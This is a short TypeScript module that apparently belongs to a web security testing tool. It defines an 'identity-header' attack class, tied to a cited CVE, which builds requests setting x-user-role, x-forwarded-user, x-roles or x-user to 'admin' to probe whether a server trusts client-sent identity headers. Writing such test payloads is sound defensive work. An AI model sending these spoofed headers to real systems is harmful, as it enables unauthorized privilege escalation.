import type { AttackClass } from '../attack.js';
import { jsonAt } from '../body/spellings.js';

export const identityHeader: AttackClass = {
  name: 'identity-header',
  source: 'CVE-2026-8890 (code100x: who asks is said by a header of the client)',
  why: 'The client itself sends a header that only a trusted proxy should set, and a body that needs that role.',
  aim: 'body',
  json: (target) =>
    ['x-user-role', 'x-forwarded-user', 'x-roles', 'x-user'].map((header) => ({
      ...jsonAt(target, target.key, target.wants),
      headers: { [header]: 'admin' },
    })),
};
